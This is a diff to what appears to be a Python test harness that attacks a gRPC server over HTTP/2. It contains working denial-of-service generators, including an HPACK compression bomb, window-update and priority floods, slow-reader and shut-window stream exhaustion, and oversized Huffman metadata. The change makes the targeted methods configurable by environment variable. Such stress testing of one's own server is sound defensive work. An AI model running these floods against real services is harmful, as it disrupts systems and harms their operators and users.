@@ -2,7 +2,8 @@
 
 An attacker becomes that user, if it may, connects, sends as fast as it can until it is cut, and connects again; so
 many of them at once. It prints what they saw, as JSON: how often they were connected and how often told to go, with
-the codes that they were told.
+the codes that they were told. ATTACKED_METHODS are two methods of the server, with a comma between: one that answers
+something small, and one that answers something large.
 """
 
 from __future__ import annotations
@@ -41,7 +42,8 @@ def request(method: bytes, *more: bytes) -> bytes:
 
 
 HELLO = PREFACE + frame(SETTINGS, 0, 0)
-CALL = request(b"/test.Service/Echo")
+SMALL, LARGE = os.environb.get(b"ATTACKED_METHODS", b"/test.Service/Echo,/test.Service/Large").split(b",")
+CALL = request(SMALL)
 MESSAGE = b"\x00\x00\x00\x00\x02hi"
 
 
@@ -104,7 +106,7 @@ def window_update_flood() -> Iterator[bytes]:
 
 def window_drip() -> Iterator[bytes]:
     """Ask for large answers, and grant them byte by byte."""
-    block = request(b"/test.Service/Large")
+    block = request(LARGE)
     for stream in range(1, 20, 2):
         yield frame(HEADERS, 4, stream, block) + frame(DATA, 1, stream, MESSAGE)
     while True:
@@ -125,7 +127,7 @@ def priority_flood() -> Iterator[bytes]:
 
 def hpack_bomb() -> Iterator[bytes]:
     large = literal(b"x-bomb", b"b" * 4000, indexed=True)
-    yield frame(HEADERS, 5, 1, request(b"/test.Service/Echo") + large)
+    yield frame(HEADERS, 5, 1, CALL + large)
     stream = 3
     while True:  # each byte stands for the four thousand
         yield frame(HEADERS, 5, stream, CALL + b"\xbe" * 12000)
@@ -144,7 +146,7 @@ def many_fields() -> Iterator[bytes]:
     """Calls with as many fields as they may have, a byte each."""
     stream = 1
     while True:
-        yield frame(HEADERS, 5, stream, request(b"/no/Such") + b"\x90" * 350)
+        yield frame(HEADERS, 5, stream, request(b"/no/Such") + b"\x95" * 215)
         stream += 2
 
 
@@ -152,7 +154,7 @@ def huffman_flood() -> Iterator[bytes]:
     """Calls with as much metadata as they may have, in the code that takes longest to read."""
     stream = 1
     while True:
-        large = b"\x00\x01x" + b"\xff" + _length(9000)[1:] + b"\x18\xc6\x31\x8c\x63" * 1800
+        large = b"\x00\x01x" + b"\xff" + _length(4800)[1:] + b"\x18\xc6\x31\x8c\x63" * 960
         yield frame(HEADERS, 5, stream, request(b"/no/Such") + large)
         stream += 2
 
@@ -191,7 +193,7 @@ def half_open_streams() -> Iterator[bytes]:
 def slow_reader() -> Iterator[bytes]:
     """Ask for large answers, grant a window for all of them, and read nothing."""
     yield frame(SETTINGS, 0, 0, struct.pack(">HL", 4, 2**31 - 1)) + frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\x00\x00")
-    block = request(b"/test.Service/Large")
+    block = request(LARGE)
     for stream in range(1, 180, 2):
         yield frame(HEADERS, 4, stream, block) + frame(DATA, 1, stream, MESSAGE)
     while True:
@@ -201,7 +203,7 @@ def slow_reader() -> Iterator[bytes]:
 def shut_window() -> Iterator[bytes]:
     """Ask for large answers, and grant one byte of them."""
     yield frame(SETTINGS, 0, 0, struct.pack(">HL", 4, 1))
-    block = request(b"/test.Service/Large")
+    block = request(LARGE)
     for stream in range(1, 180, 2):
         yield frame(HEADERS, 4, stream, block) + frame(DATA, 1, stream, MESSAGE)
     while True:
